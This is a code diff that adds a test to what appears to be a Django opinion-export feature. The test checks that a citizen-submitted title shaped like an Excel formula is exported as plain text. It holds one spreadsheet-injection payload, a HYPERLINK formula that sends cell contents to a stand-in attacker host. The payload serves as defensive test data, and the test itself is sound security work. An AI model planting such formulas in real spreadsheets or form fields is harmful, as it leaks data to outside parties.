@@ -47,3 +47,15 @@ def test_each_role_exports_what_it_may_see(world, login):
     assert [r["标题"] for r in _rows(login("clerk2"))] == []
     # the page's filter applies
     assert [r["标题"] for r in _rows(login("staff"), q="公交")] == ["公交太少"]
+
+
+def test_a_title_that_looks_like_a_formula_stays_text(world, login):
+    """A citizen's text starting with ``=`` is written as text: Excel must not run it when the file is opened."""
+    staff = world.user("staff")
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'
+    op.register_message(staff, world.council, channel="letter", title=formula, body="=1+1")
+    response = login("staff").get(reverse("opinions-xlsx"), {"tab": "messages"})
+    ws = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))["群众意见"]
+    title = next(c for c in ws[2] if c.value == formula)
+    assert title.data_type == "s"  # a string cell, not a formula ("f")
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
